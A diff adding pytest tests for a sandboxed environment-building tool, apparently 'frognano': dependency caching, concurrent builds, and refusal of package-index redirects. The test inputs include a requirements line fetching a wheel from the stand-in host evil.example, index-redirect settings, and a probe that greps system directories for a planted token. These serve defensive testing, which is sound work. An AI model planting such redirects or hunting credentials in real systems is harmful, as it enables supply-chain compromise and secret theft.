@@ -1,0 +1,251 @@
+"""The environment phase through `frognano solve` and `frognano env build`, against a real
+package index (proxpi in front of wheels built and downloaded at test time): a repository with
+real dependencies fixed and verified, the cache reused, every redirect refused before anything
+runs, a build's own network attempts refused and named, and no network or token anywhere else.
+"""
+
+from __future__ import annotations
+
+import json
+import os
+import subprocess
+import sys
+import textwrap
+from collections.abc import Iterator
+from pathlib import Path
+from typing import Any
+
+import pytest
+
+from tests.cli.test_solve import TESTS, git, solve_argv
+from tests.cli.test_solve import environment as solve_environment
+from tests.fakes.model_server import ScriptedModelServer, Turn
+from tests.packageindex import PYTEST_WHEELS, WHEEL_CACHE, PackageIndex, build_wheel
+from tests.packageindex import download_wheels
+
+BUILD_WHEELS = ("setuptools==75.8.0",)
+TOKEN = "fn-index-token-7f3a9c1e5b"  # noqa: S105 - a test value, searched for below
+MATHHELP = "def total(xs):\n    return sum(xs)\n"
+BUGGY = "from mathhelp import total\n\n\ndef mean(xs):\n    return total(xs) / len(xs)\n"
+PYPROJECT = """\
+[build-system]
+requires = ["setuptools>=64"]
+build-backend = "setuptools.build_meta"
+
+[project]
+name = "fncalc"
+version = "0.1"
+dependencies = ["fn-mathhelp==1.0"]
+
+[project.optional-dependencies]
+test = ["pytest==8.3.5"]
+
+[tool.setuptools]
+py-modules = ["calc"]
+"""
+# What the agent's sandbox can find of the index and of the token: it prints only markers.
+PROBE = textwrap.dedent("""\
+    import os, socket, subprocess, sys
+    host, port, token = sys.argv[1], int(sys.argv[2]), sys.argv[3]
+    try:
+        socket.create_connection((host, port), timeout=3).close()
+        print("NET-REACHED")
+    except OSError:
+        print("NET-BLOCKED")
+    seen = any(token in value for value in os.environ.values())
+    found = subprocess.run(["grep", "-rlF", token, "/environment", "/workspace", "/home",
+                            "/tmp", "/run", "/opt"], capture_output=True, text=True).stdout
+    print("TOKEN-SEEN" if seen or found.strip() else "TOKEN-ABSENT", found.strip())
+""")
+
+
+@pytest.fixture(scope="module")
+def index(package_index: PackageIndex, tmp_path_factory: pytest.TempPathFactory) -> PackageIndex:
+    """The session's index with this module's packages: fn-mathhelp, pytest and setuptools."""
+    wheels = tmp_path_factory.mktemp("wheels")
+    mathhelp = build_wheel(wheels, "fn-mathhelp", "1.0", modules={"mathhelp.py": MATHHELP})
+    package_index.add_wheels(
+        [mathhelp, *download_wheels(WHEEL_CACHE, PYTEST_WHEELS),
+         *download_wheels(WHEEL_CACHE, BUILD_WHEELS)]
+    )  # fmt: skip
+    return package_index
+
+
+def make_repo(root: Path, files: dict[str, str]) -> Path:
+    (root / "tests").mkdir(parents=True)
+    base = {
+        "calc.py": BUGGY,
+        "tests/test_calc.py": TESTS,
+        "pytest.ini": "[pytest]\naddopts = -p no:cacheprovider\n",
+        "pyproject.toml": PYPROJECT,
+    }
+    for name, text in {**base, **files}.items():
+        (root / name).parent.mkdir(parents=True, exist_ok=True)
+        (root / name).write_text(text)
+    git(root, "init", "-q")
+    git(root, "add", "-A")
+    git(root, "commit", "-qm", "base")
+    return root
+
+
+@pytest.fixture
+def repo(tmp_path: Path) -> Path:
+    return make_repo(tmp_path / "project", {})
+
+
+def env_for(server: ScriptedModelServer | None, tmp_path: Path, cache: Path) -> dict[str, str]:
+    if server is None:
+        env = {k: v for k, v in os.environ.items() if not k.startswith("FROGNANO_")}
+        env["FROGNANO_POLICY_DIR"] = str(tmp_path / "no-policies")
+    else:
+        env = solve_environment(server, tmp_path)
+    env["FROGNANO_ENVIRONMENT_CACHE"] = str(cache)
+    env["FROGNANO_LOG_LEVEL"] = "WARNING"
+    return env
+
+
+def fix_turns(index: PackageIndex) -> list[Turn]:
+    probe = f"python - {index.host} {index.port} {TOKEN} <<'EOF'\n{PROBE}EOF"
+    return [
+        Turn(calls=[("Bash", {"command": probe, "timeout": 60000})]),
+        Turn(calls=[("Edit", {
+            "file_path": "/workspace/calc.py",
+            "old_string": "    return total(xs) / len(xs)\n",
+            "new_string": "    if not xs:\n        raise ValueError('empty')\n"
+                          "    return total(xs) / len(xs)\n",
+        })]),
+        Turn(calls=[("Bash", {"command": "python -m pytest -q", "timeout": 120000})]),
+        Turn(content="mean([]) raises ValueError now."),
+    ]  # fmt: skip
+
+
+def solve(
+    repo: Path, tmp_path: Path, index: PackageIndex, turns: list[Turn], cache: Path, name: str
+) -> tuple[subprocess.CompletedProcess[str], Path, ScriptedModelServer]:
+    issue = tmp_path / "ISSUE.md"
+    issue.write_text("# mean([]) crashes\n\nmean([]) should raise ValueError.\n")
+    out = tmp_path / name
+    with ScriptedModelServer(turns) as server:
+        env = env_for(server, tmp_path, cache)
+        env["FROGNANO_INDEX_TOKEN"] = TOKEN
+        done = subprocess.run(
+            solve_argv(repo, issue, out, "--index-url", index.url),
+            env=env,
+            check=False,
+            capture_output=True,
+            text=True,
+            timeout=600,
+        )
+    return done, out, server
+
+
+def report(out: Path) -> dict[str, Any]:
+    found: dict[str, Any] = json.loads((out / "report.json").read_text())
+    return found
+
+
+def test_a_repository_with_real_dependencies_is_fixed_and_verified_then_reused(
+    repo: Path, tmp_path: Path, index: PackageIndex
+) -> None:
+    cache = tmp_path / "envcache"
+    done, out, _ = solve(repo, tmp_path, index, fix_turns(index), cache, "first")
+    assert done.returncode == 0, done.stderr + (out / "report.md").read_text()
+    first = report(out)
+    env = first["sandbox"]["environment"]
+    assert env["cache_hit"] is False
+    assert env["commands"] == ["python -m pip install -e '.[test]'"]
+    assert first["verification"]["held"] is True
+    trajectory = (out / "trajectory.jsonl").read_text()
+    assert "NET-BLOCKED" in trajectory and "NET-REACHED" not in trajectory
+    assert "TOKEN-ABSENT" in trajectory and "TOKEN-SEEN" not in trajectory
+    assert "2 passed" in trajectory or "1 passed" in trajectory
+    fetched = index.log()
+    assert "/index/fn-mathhelp/" in fetched and "/index/pytest/" in fetched
+
+    before = index.log()
+    again, out2, _ = solve(repo, tmp_path, index, fix_turns(index), cache, "second")
+    assert again.returncode == 0, again.stderr
+    second = report(out2)["sandbox"]["environment"]
+    assert second["cache_hit"] is True
+    assert second["key"] == env["key"]
+    assert index.log() == before, "a cache hit asked the index for something"
+    # The baseline cache keys on the environment too.
+    assert "Environment:" in (out2 / "report.md").read_text()
+
+
+def test_a_changed_dependency_byte_is_another_environment(
+    tmp_path: Path, index: PackageIndex
+) -> None:
+    cache = tmp_path / "envcache"
+    first = make_repo(tmp_path / "one", {})
+    second = make_repo(tmp_path / "two", {"pyproject.toml": PYPROJECT + "\n"})
+    keys = []
+    for repo in (first, second):
+        done = subprocess.run(
+            [sys.executable, "-m", "frognano", "env", "build", str(repo), "--index-url",
+             index.url],
+            env=env_for(None, tmp_path, cache),
+            capture_output=True,
+            text=True,
+            timeout=600,
+            check=False,
+        )  # fmt: skip
+        assert done.returncode == 0, done.stdout + done.stderr
+        assert "built now" in done.stdout
+        keys.append(next(line for line in done.stdout.splitlines() if "key:" in line))
+    assert keys[0] != keys[1]
+
+
+def test_two_concurrent_builds_of_one_key_build_once(
+    repo: Path, tmp_path: Path, index: PackageIndex
+) -> None:
+    cache = tmp_path / "envcache"
+    argv = [sys.executable, "-m", "frognano", "env", "build", str(repo), "--index-url", index.url]
+    procs = [
+        subprocess.Popen(
+            argv,
+            env=env_for(None, tmp_path, cache),
+            stdout=subprocess.PIPE,
+            stderr=subprocess.PIPE,
+            text=True,
+        )
+        for _ in range(2)
+    ]
+    outputs = [proc.communicate(timeout=600) for proc in procs]
+    assert [proc.returncode for proc in procs] == [0, 0], outputs
+    said = sorted("built now" if "built now" in out else "hit" for out, _ in outputs)
+    assert said == ["built now", "hit"]
+
+
+REDIRECTS = {
+    "requirements.txt": "--extra-index-url http://127.0.0.1:9/simple/\nfn-mathhelp==1.0\n",
+    "requirements-dev.txt": "fn-mathhelp @ https://evil.example/fn_mathhelp-1.0-py3-none-any.whl\n",
+    "pip.conf": "[global]\nindex-url = http://127.0.0.1:9/simple/\n",
+}
+
+
+@pytest.mark.parametrize("name", sorted(REDIRECTS))
+def test_a_redirect_ends_the_run_before_the_agent_with_file_and_line(
+    name: str, tmp_path: Path, index: PackageIndex
+) -> None:
+    repo = make_repo(tmp_path / "project", {name: REDIRECTS[name]})
+    done, out, server = solve(repo, tmp_path, index, fix_turns(index), tmp_path / "c", "out")
+    assert done.returncode == 1, done.stderr
+    error = report(out)["error"]
+    assert f"{name}" in error
+    assert "approved package index" in error
+    assert server.requests == [], "the model was asked although the environment was refused"
+    assert not any((tmp_path / "c").glob("*.json")), "something was built"
+
+
+def test_a_failing_install_names_the_command_and_the_package(
+    tmp_path: Path, index: PackageIndex
+) -> None:
+    broken = PYPROJECT.replace('"fn-mathhelp==1.0"', '"fn-absent-package==9.9"')
+    repo = make_repo(tmp_path / "project", {"pyproject.toml": broken})
+    done, out, server = solve(repo, tmp_path, index, fix_turns(index), tmp_path / "c", "out")
+    assert done.returncode == 1
+    error = report(out)["error"]
+    assert "python -m pip install -e '.[test]'" in error
+    assert "fn-absent-package" in error
+    assert server.requests == []
